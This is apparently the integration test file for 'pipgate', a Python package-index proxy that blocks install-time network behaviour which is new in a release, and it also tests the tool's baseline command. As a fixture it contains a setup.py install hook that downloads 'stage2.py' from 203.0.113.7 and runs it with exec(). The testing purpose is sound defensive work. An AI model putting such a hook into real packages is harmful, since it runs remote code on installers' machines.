//! New in this version, end to end: a policy that blocks only install-time network
//! behaviour a release gained since the previous one, with real pip against the fake
//! upstream; and `pipgate baseline` against the same fake upstream.

mod common;
use common::*;
use std::process::Command;

/// A setup.py that downloads and runs code from an install hook (never executed here:
/// the test sdists build with an in-tree backend that ignores setup.py).
fn downloader_setup(name: &str, version: &str) -> String {
    format!(
        "import urllib.request\nfrom setuptools import setup\nfrom setuptools.command.install import install\n\n\n\
         class PostInstall(install):\n    def run(self):\n        payload = urllib.request.urlopen(\"http://203.0.113.7/stage2.py\").read()\n        \
         exec(payload)\n        install.run(self)\n\n\nsetup(name=\"{name}\", version=\"{version}\", cmdclass={{\"install\": PostInstall}})\n"
    )
}

fn clean_setup(name: &str, version: &str) -> String {
    format!("from setuptools import setup\n\nsetup(name=\"{name}\", version=\"{version}\")\n")
}

/// Everything else is annotated; only install-time behaviour new in this version blocks.
const POLICY: &str = "defaults:\n  action: annotate\n  severity: { critical: annotate, high: annotate, medium: annotate, low: annotate, info: annotate }\nrules:\n  - id: new-install-time-behaviour\n    match:\n      category: [network, execution]\n      new_in_version: true\n    action: block\n";

fn stderr(o: &std::process::Output) -> String {
    String::from_utf8_lossy(&o.stderr).into_owned()
}

#[test]
fn a_downloader_new_in_this_version_is_blocked_and_one_the_project_always_had_is_not() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("nv-gains", sdist("nv-gains", "1.0", &[("setup.py", &clean_setup("nv-gains", "1.0"))]));
    idx.add_dist("nv-gains", sdist("nv-gains", "1.1", &[("setup.py", &downloader_setup("nv-gains", "1.1"))]));
    idx.add_dist("nv-always", sdist("nv-always", "1.0", &[("setup.py", &downloader_setup("nv-always", "1.0"))]));
    idx.add_dist("nv-always", sdist("nv-always", "1.1", &[("setup.py", &downloader_setup("nv-always", "1.1"))]));
    let gate = Pipgate::start(&idx.url(), Some(POLICY));
    let venv = Venv::new();

    // 1.0 is clean: installed.
    let out = venv.pip(&["install", "--index-url", &gate.url, "nv-gains==1.0"]);
    assert!(out.status.success(), "{}", show(&out));

    // 1.1 gained an install-time downloader: refused, and pip's line says it is new.
    let out = venv.pip(&["install", "--index-url", &gate.url, "nv-gains==1.1"]);
    assert!(!out.status.success(), "{}", show(&out));
    let err = stderr(&out);
    assert!(err.contains("403") && err.contains("new in this version"), "{err}");

    // The audit line carries the comparison, naming the previous release.
    let audit = gate.audit();
    let block = audit.iter().find(|r| r["decision"] == "block" && r["version"] == "1.1").expect("a block line");
    let reasons = block["reasons"].to_string();
    assert!(reasons.contains("new-install-time-behaviour") && reasons.contains("not in 1.0"), "{block}");

    // The report a browser opens says what is new, and against which release.
    let sha = block["sha256"].as_str().expect("the block names the file's sha256");
    let html = http()
        .get(format!("{}/reports/{sha}", gate.base()))
        .header("accept", "text/html")
        .send()
        .unwrap()
        .text()
        .unwrap();
    let section = html.split("id=\"new-in-version\"").nth(1).expect("a new-in-this-version section");
    let section = section.split("</section>").next().unwrap();
    assert!(section.contains("nv-gains==1.0"), "compared with 1.0: {section}");
    assert!(section.contains("execution."), "lists the new behaviour: {section}");

    // A project whose 1.0 already had the downloader: the rule does not match 1.1.
    let out = venv.pip(&["install", "--index-url", &gate.url, "nv-always==1.1"]);
    assert!(out.status.success(), "the behaviour is not new in nv-always 1.1: {}", show(&out));
    let audit = gate.audit();
    let served = audit
        .iter()
        .find(|r| r["project"] == "nv-always" && r["version"] == "1.1" && r["request"] == "file")
        .expect("an audit line for nv-always 1.1");
    assert_eq!(served["decision"], "annotate", "{served}");
}

#[test]
fn baseline_counts_what_the_top_projects_do_and_a_rerun_resumes() {
    let idx = FakeIndex::start(Format::Json);
    idx.add_dist("bl-hook", sdist("bl-hook", "2.0", &[("setup.py", &downloader_setup("bl-hook", "2.0"))]));
    idx.add_dist("bl-hook", wheel("bl-hook", "2.0", &[], &[]));
    idx.add_dist("bl-hook", sdist("bl-hook", "1.0", &[("setup.py", &clean_setup("bl-hook", "1.0"))]));
    idx.add_dist("bl-clean", wheel("bl-clean", "0.3", &[], &[]));
    // bl-missing is on the list but not on the index: a failure, counted nowhere.
    let dir = tempfile::tempdir().unwrap();
    let list = dir.path().join("top.tsv");
    std::fs::write(&list, "rank\tname\n1\tbl-hook\n2\tbl-missing\n3\tbl-clean\n4\tbl-not-in-top-3\n").unwrap();
    let policy = dir.path().join("policy.yaml");
    std::fs::write(&policy, "# empty\n").unwrap();
    let out_file = dir.path().join("baseline.json");
    let run = || {
        Command::new(env!("CARGO_BIN_EXE_pipgate"))
            .args(["baseline", "--top", "3", "--concurrency", "2", "--upstream", &idx.url()])
            .arg("--projects")
            .arg(&list)
            .arg("--out")
            .arg(&out_file)
            .arg("--policy")
            .arg(&policy)
            .arg("--data-dir")
            .arg(dir.path().join("work"))
            .output()
            .unwrap()
    };
    let out = run();
    assert!(out.status.success(), "{}", show(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("3 projects in the top 3 (0 done by an earlier run), 2 with at least one artifact scanned"),
        "{stdout}"
    );
    assert!(stdout.contains("this run: 3 artifacts, 1 failures"), "{stdout}");

    let b: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&out_file).unwrap()).unwrap();
    assert_eq!(b["top"], 3);
    assert_eq!(b["buckets"], serde_json::json!([3]));
    assert_eq!(b["scanned"]["3"], 2, "bl-hook and bl-clean were scanned: {b}");
    assert_eq!(b["artifacts"], 3, "bl-hook's latest sdist and wheel, bl-clean's wheel: {b}");
    assert_eq!(b["detectors"]["execution.install-hook"]["3"], 1, "only bl-hook 2.0 has an install hook: {b}");
    assert_eq!(b["indicators"]["execution.dynamic-code"]["exec"]["3"], 1, "its exec() is counted by API name: {b}");
    assert!(b["scanner_version"].as_str().is_some_and(|v| !v.is_empty()));
    let text = b.to_string();
    assert!(!text.contains("127.0.0.1") && !text.contains("http"), "no URL in the baseline: {text}");
    // Bounded disk: no artifact bytes stay behind.
    // (artifacts/<prefix>/<sha256>, beside which only the small extracted `.metadata` stays)
    let kept = std::fs::read_dir(dir.path().join("work/artifacts"))
        .map(|d| {
            d.flatten()
                .flat_map(|sub| std::fs::read_dir(sub.path()).into_iter().flatten().flatten())
                .filter(|e| !e.file_name().to_string_lossy().ends_with(".metadata"))
                .count()
        })
        .unwrap_or(0);
    assert_eq!(kept, 0, "artifacts are dropped after their scan");

    // A rerun skips the finished projects and retries the failed one; the counts stay.
    let hits = idx.hits("bl-hook-2.0.tar.gz") + idx.hits("bl_hook-2.0.tar.gz");
    let out = run();
    assert!(out.status.success(), "{}", show(&out));
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("(2 done by an earlier run)") && stdout.contains("this run: 0 artifacts, 1 failures"),
        "{stdout}"
    );
    assert_eq!(idx.hits("bl-hook-2.0.tar.gz") + idx.hits("bl_hook-2.0.tar.gz"), hits, "bl-hook was not fetched again");
    let again: serde_json::Value = serde_json::from_str(&std::fs::read_to_string(&out_file).unwrap()).unwrap();
    assert_eq!(again["detectors"], b["detectors"]);
    assert_eq!(again["scanned"], b["scanned"]);
}
